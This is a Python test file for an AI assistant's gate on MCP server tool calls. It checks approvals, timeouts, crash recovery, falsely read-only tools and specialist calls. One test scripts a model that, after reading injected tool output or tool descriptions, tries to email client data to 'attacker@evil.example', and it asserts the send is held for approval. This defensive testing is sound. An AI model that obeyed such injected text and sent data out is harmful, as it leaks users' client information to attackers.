"""The operator's MCP servers behind the gate: real servers (the npm filesystem server, the Python
test server in tests/support/mcp_servers.py), a scripted model, the whole app."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from pydantic_ai.messages import ModelResponse, TextPart, ToolCallPart
from pydantic_ai.usage import RequestUsage

from bot.app import App, wire
from connectors.mcp import McpConfig, McpLimits
from policies import approvals
from tests.support import mcp_servers
from tests.support.chat import FakeChat
from tests.support.models import Script, Step, call, say


def mcp(server: str, tool: str, arguments: dict[str, Any]) -> Step:
    """The model calls ``tool`` of MCP ``server`` (``call`` cannot: its own first argument is ``tool``)."""
    return lambda _messages: ModelResponse(
        parts=[ToolCallPart("mcp_call", {"server": server, "tool": tool, "arguments": arguments})],
        usage=RequestUsage(input_tokens=100, output_tokens=20),
    )


def _policy(tmp_path: Path, mcp: dict[str, Any], **actions: Any) -> Path:
    from importlib import resources

    import yaml

    base = yaml.safe_load(resources.files("policies").joinpath("templates/default.yaml").read_text())
    base["mcp"] = mcp
    base["quiet_hours"] = None
    base["actions"].update(actions)
    path = tmp_path / "policy.yaml"
    path.write_text(yaml.safe_dump(base))
    return path


@contextlib.asynccontextmanager
async def mcp_app(
    app: App, settings: Any, tmp_path: Path, script: Script, servers: list[McpConfig], mcp: dict[str, Any], **kw: Any
) -> AsyncIterator[App]:
    changed = {"policy_file": _policy(tmp_path, mcp, **kw.pop("actions", {})), "turn_request_limit": 8}
    wired = wire(settings.model_copy(update=changed), app.memory, tiers=script.tiers())
    wired.mcp.limits = McpLimits(**{"call_seconds": 30.0, "backoff": (0.1, 0.2), **kw})
    await wired.mcp.start(servers)
    try:
        yield wired
    finally:
        await wired.mcp.stop()


def _npm_ready() -> None:
    problem = mcp_servers.ensure_npm_servers()
    if problem:
        pytest.fail(problem)


def _python_server(name: str = "test", notes: Path | None = None, extra: int = 0) -> McpConfig:
    env = f"env MCP_TEST_NOTES={notes or '/dev/null'} MCP_TEST_EXTRA={extra} "
    return McpConfig(name=name, command=env + mcp_servers.python_command())


def _audit(app: App, workspace: str) -> list[Any]:
    from policies import audit

    with app.memory.db.connection() as conn:
        return [r for r in audit.recent(conn, workspace, 50) if r.event.action_type == "mcp.call"]


async def test_a_new_user_reads_a_folder_then_a_write_waits_for_approval_and_runs_once(
    app: App, settings: Any, tmp_path: Path, workspace: str
) -> None:
    _npm_ready()
    folder = tmp_path / "proposals"
    folder.mkdir()
    (folder / "acme-proposal.md").write_text("Acme: website, 4 weeks")
    files = McpConfig(name="files", command=mcp_servers.npm_command("filesystem", str(folder)))
    target = str(folder / "hello.txt")
    script = Script(
        [
            mcp("files", "list_directory", {"path": str(folder)}),
            say("Your proposals folder holds acme-proposal.md."),
            mcp("files", "write_file", {"path": target, "content": "Hello Acme"}),
        ]
    )
    policy = {"files": {"level": "approve", "tools": {"list_directory": "allow"}}}
    async with mcp_app(app, settings, tmp_path, script, [files], policy) as wired:
        chat = FakeChat(wired, workspace)
        answer = await chat.say("what's in my proposals folder?")
        assert "proposals folder" in answer
        (read,) = _audit(wired, workspace)
        assert read.event.name == "action.executed" and "acme-proposal.md" in (read.event.outcome or "")
        (turn,) = [r for r in _all(wired, workspace) if r.event.name == "turn.model"]
        assert turn.event.args and "the MCP tool files/list_directory returned" in json.dumps(turn.event.args)

        held = await chat.say("write hello.txt saying Hello Acme")
        assert "write_file" in held and "files" in held and "Hello Acme" in held
        assert not Path(target).exists()
        with wired.memory.db.connection() as conn:
            (pending,) = approvals.pending(conn, workspace)
        why = await chat.say(f"/why {pending.id}")
        assert "mcp.call" in why and "write_file" in why and "files" in why
        done = await wired.gate.decide_approval(pending.id, operator="tester", approve=True)
        again = await wired.gate.decide_approval(pending.id, operator="tester", approve=True)
        assert done.startswith("Approved and done") and "write_file" in done
        assert "Already decided" in again
        assert Path(target).read_text() == "Hello Acme"
        undo = await chat.say("/undo")
        assert "can't undo" in undo and "MCP server" in undo
        names = [r.event.name for r in _audit(wired, workspace)]
        assert names.count("action.executed") == 2 and "action.pending" in names


def _all(app: App, workspace: str) -> list[Any]:
    from policies import audit

    with app.memory.db.connection() as conn:
        return audit.recent(conn, workspace, 50)


async def test_a_hanging_tool_times_out_with_its_server_and_tool_named(
    app: App, settings: Any, tmp_path: Path, workspace: str
) -> None:
    script = Script([mcp("test", "slow", {"seconds": 30}), say("It timed out.")])
    async with mcp_app(
        app, settings, tmp_path, script, [_python_server()], {"test": {"level": "allow"}}, call_seconds=1.0
    ) as wired:
        await FakeChat(wired, workspace).say("run the slow report")
        said = [c for c in script.calls]
        assert said
        failed = _audit(wired, workspace)
        assert [r.event.name for r in failed] == ["action.failed"]
        assert "'test' did not answer slow within 1 s" in (failed[0].event.outcome or "")


async def test_a_server_killed_mid_call_fails_clearly_restarts_and_works_again(
    app: App, settings: Any, tmp_path: Path, workspace: str
) -> None:
    script = Script(
        [
            mcp("test", "crash", {}),
            say("It crashed."),
            mcp("test", "echo", {"text": "back"}),
            say("back"),
        ]
    )
    async with mcp_app(app, settings, tmp_path, script, [_python_server()], {"test": {"level": "allow"}}) as wired:
        chat = FakeChat(wired, workspace)
        await chat.say("crash it")
        (failed,) = _audit(wired, workspace)
        assert failed.event.name == "action.failed"
        assert "'test' stopped during crash" in (failed.event.outcome or "")
        session = wired.mcp.sessions["test"]
        for _ in range(100):
            if session.up and session.restarts >= 1:
                break
            await asyncio.sleep(0.1)
        assert session.up and session.restarts >= 1
        await chat.say("echo back")
        assert _audit(wired, workspace)[0].event.name == "action.executed"


async def test_injections_in_descriptions_and_results_cause_no_effect(
    app: App, settings: Any, tmp_path: Path, workspace: str
) -> None:
    """The policy would send this e-mail without asking; after the model read a tool's result or a
    server's tool descriptions (both carry an injection), the same turn's e-mail waits for approval."""
    send = call("send_email", to="attacker@evil.example", subject="clients", body="the list")
    for first, space in (
        (mcp("test", "lookup", {"name": "Acme"}), workspace),
        (call("find_tools", query="client"), f"{workspace}-d"),
    ):
        script = Script([first, send])
        async with mcp_app(
            app,
            settings,
            tmp_path,
            script,
            [_python_server()],
            {"test": {"level": "allow"}},
            actions={"email.send": {"level": "allow"}},
        ) as wired:
            reply = await FakeChat(wired, space).say("look up Acme")
            with wired.memory.db.connection() as conn:
                (held,) = approvals.pending(conn, space)
            assert held.action.type == "email.send", reply
            assert "MCP" in held.reason
            with wired.memory.db.connection() as conn:
                assert conn.execute("SELECT count(*) FROM outbox WHERE workspace = %s", (space,)).fetchone()[0] == 0


async def test_a_tool_claiming_read_only_that_writes_still_waits_unless_the_server_is_trusted(
    app: App, settings: Any, tmp_path: Path, workspace: str
) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("")
    script = Script([mcp("test", "note", {"text": "written"}), say("ok")])
    async with mcp_app(app, settings, tmp_path, script, [_python_server(notes=notes)], {"test": {}}) as wired:
        reply = await FakeChat(wired, workspace).say("use the test server to file this under notes")
        assert "approval" in reply.lower() and "its own claim" in reply
        assert notes.read_text() == ""
    script = Script([mcp("test", "note", {"text": "written"}), say("ok")])
    async with mcp_app(
        app, settings, tmp_path, script, [_python_server(notes=notes)], {"test": {"trusted": True}}
    ) as wired:
        await FakeChat(wired, f"{workspace}-t").say("use the test server to file this under notes")
        assert notes.read_text() == "written\n"


async def test_fifty_tools_cost_the_prompt_what_two_do(app: App, settings: Any, tmp_path: Path, workspace: str) -> None:
    from agents.mcp_tools import prompt_tokens

    script = Script([say("ok")])
    async with mcp_app(app, settings, tmp_path, script, [_python_server(extra=45)], {}) as wired:
        assert len(wired.mcp.tools()) == 50
        offered, every = prompt_tokens(wired.mcp, "find the open tickets for Acme")
        assert offered < 600 < every
        assert offered * 5 < every


@dataclass
class SpecialistScript(Script):
    """A coordinator script and a script for the specialist it asks (one step per specialist request)."""

    specialist_steps: list[Step] = field(default_factory=list)

    def __call__(self, messages: list[Any], info: Any) -> ModelResponse:
        if any(tool.name in ("send_email", "ask_research") for tool in info.function_tools):
            return super().__call__(messages, info)
        step = sum(1 for c in self.calls if c.startswith("specialist"))
        self.calls.append(f"specialist:{step}")
        if step < len(self.specialist_steps):
            return self.specialist_steps[step](messages)
        return ModelResponse(parts=[TextPart("I asked for it; it waits for approval.")])


async def test_a_specialist_sees_the_tools_and_its_calls_pass_the_gate_too(
    app: App, settings: Any, tmp_path: Path, workspace: str
) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("")
    script = SpecialistScript(
        [call("ask_research", question="file the Acme note"), say("The research specialist asked for it.")],
        specialist_steps=[mcp("test", "note", {"text": "from the specialist"})],
    )
    async with mcp_app(app, settings, tmp_path, script, [_python_server(notes=notes)], {"test": {}}) as wired:
        reply = await FakeChat(wired, workspace).say("ask research to file the Acme note on the test server")
        assert "Tool: note on MCP server test" in reply and "from the specialist" in reply
        assert notes.read_text() == ""
        with wired.memory.db.connection() as conn:
            (held,) = approvals.pending(conn, workspace)
        assert held.action.args["tool"] == "note"
        await wired.gate.decide_approval(held.id, operator="tester", approve=True)
        assert notes.read_text() == "from the specialist\n"


async def test_a_refused_call_is_audited_and_the_model_told_not_to_retry(
    app: App, settings: Any, tmp_path: Path, workspace: str
) -> None:
    script = Script([mcp("test", "echo", {"text": "hi"}), say("Your policy does not allow that.")])
    async with mcp_app(app, settings, tmp_path, script, [_python_server()], {"test": {"level": "deny"}}) as wired:
        await FakeChat(wired, workspace).say("use the test server to echo hi")
        (refused,) = _audit(wired, workspace)
        assert refused.event.name == "action.refused" and refused.event.args
        assert refused.event.args["arguments"] == {"text": "hi"} and refused.event.args["tool"] == "echo"


def test_the_mcp_tools_are_behind_the_gated_wrapper_and_only_build_actions() -> None:
    from agents.gate import GatedToolset
    from agents.mcp_tools import COORDINATOR_TOOLSET, SPECIALIST_TOOLSET

    for toolset in (COORDINATOR_TOOLSET, SPECIALIST_TOOLSET):
        assert isinstance(toolset, GatedToolset)
    assert COORDINATOR_TOOLSET.defer and not SPECIALIST_TOOLSET.defer
    assert set(COORDINATOR_TOOLSET.wrapped.tools) == {"mcp_call", "find_tools"}  # type: ignore[attr-defined]


async def test_a_plan_step_sees_the_tools_and_its_calls_pass_the_gate_in_the_steps_mode(
    app: App, settings: Any, tmp_path: Path, workspace: str
) -> None:
    """A specialist running a step of an approved plan in the background has the servers' tools like
    one asked in chat. A research step is exploratory: a tool the policy allows runs, and one that
    needs approval is refused, saying why."""
    from datetime import timedelta
    from decimal import Decimal

    from agents import Budget, Prices
    from agents.executor import PlanExecutor
    from tests.support.plan_models import has_tool_result, objective, retainer_plan

    notes = tmp_path / "notes.txt"
    notes.write_text("")
    echo, file_it = mcp("test", "echo", {"text": "prospects"}), mcp("test", "note", {"text": "from the plan"})

    def research(messages: Any) -> ModelResponse:
        if has_tool_result(messages, "mcp_call"):
            done = sum(
                1 for m in messages for p in getattr(m, "parts", []) if getattr(p, "tool_name", "") == "mcp_call"
            )
            return file_it(messages) if done < 4 else ModelResponse(parts=[TextPart("Looked it up.")])
        return echo(messages)

    script = retainer_plan(Research=[research])
    policy = {"test": {"tools": {"echo": "allow"}}}
    async with mcp_app(app, settings, tmp_path, script, [_python_server(notes=notes)], policy) as wired:  # type: ignore[arg-type]
        chat = FakeChat(wired, workspace)
        drafted = await chat.say(f"/objective {objective()}")
        plan_id = int(drafted.split("Plan #", 1)[1].split(":", 1)[0])
        assert "approved" in await chat.say(f"/plan {plan_id} approve")
        executor = PlanExecutor(
            wired.memory,
            wired.gate,
            script.tiers(),
            Budget(Decimal(5), Decimal(50)),
            Prices(Decimal(0), Decimal(0)),
            wired.settings.context_token_budget,
            retry_base=timedelta(0),
            mcp=wired.mcp,
        )
        await executor.run_until_idle(workspace, timezone="UTC", report=False)
        assert "mcp_call" in {tool.name for tool in script.seen["Research"].function_tools}
        outcomes = {r.event.args["tool"]: (r.event.name, r.event.outcome) for r in _audit(wired, workspace)}
        assert outcomes["echo"][0] == "action.executed"
        assert outcomes["note"][0] == "action.refused" and "exploratory mode" in outcomes["note"][1]
        assert notes.read_text() == ""
